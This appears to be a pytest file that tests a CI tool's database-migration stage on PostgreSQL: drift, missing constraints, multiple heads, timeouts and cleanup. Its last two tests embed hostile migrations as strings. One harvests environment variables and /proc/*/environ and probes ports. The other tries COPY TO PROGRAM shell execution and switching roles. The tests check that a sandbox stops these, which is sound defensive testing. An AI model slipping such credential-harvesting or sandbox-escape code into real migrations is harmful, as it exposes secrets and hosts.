"""The database stage on a real PostgreSQL with the sample api's own Alembic and models."""

from __future__ import annotations

import glob
import tempfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from shipyard.checks.model import CheckResult, Status
from shipyard.checks.plan import plan_app_stage
from shipyard.config import load_config
from shipyard.config.database import DatabaseChecks
from shipyard.home import Home
from shipyard.postgres import PostgresUnavailable, find_bin_dir
from shipyard.sample import commit_all, create_sample_repo
from tasks.database import verify_migrations
from tests.capabilities import require, require_tools

pytestmark = pytest.mark.slow

MIGRATIONS = Path("apps/api/migrations/versions")


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("shipyard-home")  # shared: the api's dependencies install once


@pytest.fixture(autouse=True)
def _environment(home: Path, own_tmpdir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    require_tools("git", "python3.11")
    try:
        find_bin_dir()
    except PostgresUnavailable as exc:
        require(False, str(exc))
    monkeypatch.setenv("SHIPYARD_HOME", str(home))
    monkeypatch.delenv("SHIPYARD_TEST_DATABASE_URL", raising=False)


def leftovers(temp: Path) -> set[str]:
    """Data folders of throwaway servers under temp (the test's own TMPDIR, so parallel tests do not count) that
    still exist, and postgres processes still running from one."""
    prefix = f"{temp}/shipyard-pg-"
    folders = set(glob.glob(f"{prefix}*"))
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            args = Path(cmdline).read_bytes().split(b"\0")
        except OSError:
            continue
        folders |= {a.decode() for a in args if a.decode(errors="replace").startswith(prefix)}
    return folders


def verify(repo: Path, sha: str, timeout: float | None = None) -> CheckResult:
    config = load_config(repo / "shipyard.yaml")
    [spec] = plan_app_stage(config, "database", True, lambda path: path)
    spec = replace(spec, timeout=timeout or spec.timeout)
    temp = Path(tempfile.gettempdir())  # the test's own (own_tmpdir)
    state_or_result = verify_migrations.fn(spec, config.apps["api"], DatabaseChecks(), str(repo), sha, Home.from_env())
    assert leftovers(temp) == set(), "a throwaway PostgreSQL server or its data folder was left behind"
    result = state_or_result if isinstance(state_or_result, CheckResult) else state_or_result.data
    assert isinstance(result, CheckResult)
    return result


@pytest.fixture
def sample(tmp_path: Path) -> Iterator[tuple[Path, str]]:
    repo = tmp_path / "repo"
    yield repo, create_sample_repo(repo)


def test_clean_migrations_go_up_down_up_without_drift(sample: tuple[Path, str]) -> None:
    result = verify(*sample)
    assert result.status is Status.PASSED, result.summary + result.tail
    assert result.summary == (
        "up, down, up, no drift: upgrade head, downgrade 0001 -> base, upgrade head again, drift check, integrity check"
    )


def test_broken_migration_variant_names_the_drift_and_the_failing_downgrade(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    result = verify(repo, create_sample_repo(repo, "broken-migration"))
    assert result.status is Status.FAILED
    assert "downgrade 0002 -> 0001 failed at revision 0002" in result.summary
    assert 'index "ix_properties_cost" does not exist' in result.summary
    assert "schema drift at head 0002: add_column: column properties.rating exists only in the models" in result.summary


def test_a_check_constraint_the_migration_forgot_is_reported(sample: tuple[Path, str]) -> None:
    repo, _ = sample
    first = repo / MIGRATIONS / "0001_create_properties.py"
    text = first.read_text()
    first.write_text(
        text.replace('        sa.CheckConstraint("price >= 0", name="ck_properties_price_non_negative"),\n', "")
    )
    result = verify(repo, commit_all(repo, "forget a check constraint"))
    assert result.status is Status.FAILED
    assert result.summary == "properties: constraint or index ck_properties_price_non_negative is missing"


def test_an_empty_downgrade_and_two_heads_are_reported(sample: tuple[Path, str]) -> None:
    repo, _ = sample
    for revision in ("0002", "0003"):
        (repo / MIGRATIONS / f"{revision}_noop.py").write_text(
            f'"""noop {revision}"""\n\nrevision = "{revision}"\ndown_revision = "0001"\n'
            "branch_labels = None\ndepends_on = None\n\n\ndef upgrade() -> None:\n    pass\n\n\n"
            "def downgrade() -> None:\n    pass\n"
        )
    result = verify(repo, commit_all(repo, "two heads, no downgrades"))
    assert result.status is Status.FAILED
    assert "multiple heads: 0002, 0003 (merge them)" in result.summary
    assert "revision 0002 (noop 0002) has no downgrade" in result.summary


def test_a_hanging_migration_is_killed_at_the_timeout_and_the_server_removed(sample: tuple[Path, str]) -> None:
    repo, _ = sample
    (repo / MIGRATIONS / "0002_slow.py").write_text(
        '"""slow"""\n\nimport time\n\nrevision = "0002"\ndown_revision = "0001"\nbranch_labels = None\n'
        "depends_on = None\n\n\ndef upgrade() -> None:\n    time.sleep(600)\n\n\n"
        'def downgrade() -> None:\n    raise NotImplementedError("never reached")\n'
    )
    result = verify(repo, commit_all(repo, "a migration that hangs"), timeout=15)
    assert result.status is Status.FAILED
    assert result.summary == "migrations did not finish within 15s"


def test_a_configured_server_gets_a_fresh_database_that_is_dropped_after(
    sample: tuple[Path, str], postgres_server: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sqlalchemy as sa

    def databases() -> set[str]:
        engine = sa.create_engine(postgres_server)
        with engine.connect() as conn:
            names = set(conn.execute(sa.text("SELECT datname FROM pg_database")).scalars())
        engine.dispose()
        return names

    monkeypatch.setenv("SHIPYARD_TEST_DATABASE_URL", postgres_server)
    before = databases()
    assert verify(*sample).status is Status.PASSED
    assert databases() == before


ATTACK = '''"""reads what it can and calls out"""

import os
import socket
from pathlib import Path

revision = "0002"
down_revision = "0001"
branch_labels = None
depends_on = None


def upgrade() -> None:
    seen = [f"{{k}}={{v}}" for k, v in os.environ.items()]
    for environ in Path("/proc").glob("[0-9]*/environ"):
        try:
            seen.append(environ.read_bytes().decode(errors="replace"))
        except OSError:
            pass
    for port in (4200, {port}):
        try:
            socket.create_connection(("127.0.0.1", port), timeout=3).close()
            seen.append(f"CONNECTED {{port}}")
        except OSError:
            pass
    print("SEEN", " ".join(seen))  # what a failing check's log would carry out
    raise RuntimeError("LEAK " + " ".join(seen))


def downgrade() -> None:
    pass
'''


def test_a_migration_reaches_only_its_database_and_sees_no_secret(
    sample: tuple[Path, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import socket

    monkeypatch.setenv("GITHUB_TOKEN", "ghp_migration_attack_0123456789")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret-migration-attack")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.1)
        repo, _ = sample
        (repo / MIGRATIONS / "0002_attack.py").write_text(ATTACK.format(port=listener.getsockname()[1]))
        result = verify(repo, commit_all(repo, "a migration that looks around"))
        with pytest.raises(TimeoutError):
            listener.accept()  # nothing came
    assert result.status is Status.FAILED and "LEAK" in result.summary, result.summary
    everything = result.summary + result.tail
    assert "ghp_migration_attack" not in everything and "aws-secret-migration-attack" not in everything
    assert "CONNECTED" not in everything


PROGRAM_ATTACK = '''"""uses its database connection to get out of the sandbox"""

import sqlalchemy as sa
from alembic import op

revision = "0002"
down_revision = "0001"
branch_labels = None
depends_on = None


def upgrade() -> None:
    bind = op.get_bind()
    url = bind.engine.url
    seen = []
    try:
        with bind.begin_nested():  # a superuser's COPY TO PROGRAM runs as the server's user, outside the sandbox
            bind.execute(sa.text("COPY (SELECT 1) TO PROGRAM 'touch {marker}'"))
        seen.append("PROGRAM RAN")
    except sa.exc.DBAPIError:
        seen.append("PROGRAM REFUSED")
    for user, password in (("shipyard", None), ("postgres", None), ("shipyard", url.password)):
        other = sa.create_engine(url.set(username=user, password=password))
        try:
            with other.connect() as conn:
                conn.execute(sa.text("SELECT 1"))
            seen.append(f"CONNECTED AS {{user}}")
        except sa.exc.DBAPIError:
            pass
        other.dispose()
    raise RuntimeError("ATTACK " + " ".join(seen))


def downgrade() -> None:
    pass
'''


@pytest.mark.parametrize("server", ["temporary", "configured"])
def test_a_migration_gets_a_role_of_its_own_not_the_servers_superuser(
    sample: tuple[Path, str], server: str, postgres_server: str, own_tmpdir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sqlalchemy as sa

    if server == "configured":
        monkeypatch.setenv("SHIPYARD_TEST_DATABASE_URL", postgres_server)
    outside = own_tmpdir / "outside"
    outside.mkdir(mode=0o777)
    outside.chmod(0o777)  # writable by the server's user, so only the missing privilege can stop the attack
    repo, _ = sample
    (repo / MIGRATIONS / "0002_escape.py").write_text(PROGRAM_ATTACK.format(marker=outside / "escaped"))
    result = verify(repo, commit_all(repo, "a migration that tries its database's powers"))
    assert result.status is Status.FAILED and "ATTACK PROGRAM REFUSED" in result.summary, result.summary + result.tail
    assert "CONNECTED AS" not in result.summary
    assert not (outside / "escaped").exists()
    engine = sa.create_engine(postgres_server)
    with engine.connect() as conn:
        left = conn.execute(sa.text("SELECT rolname FROM pg_roles WHERE rolname LIKE 'shipyard\\_%'")).scalars()
        assert list(left) == []  # the role went with its database
    engine.dispose()
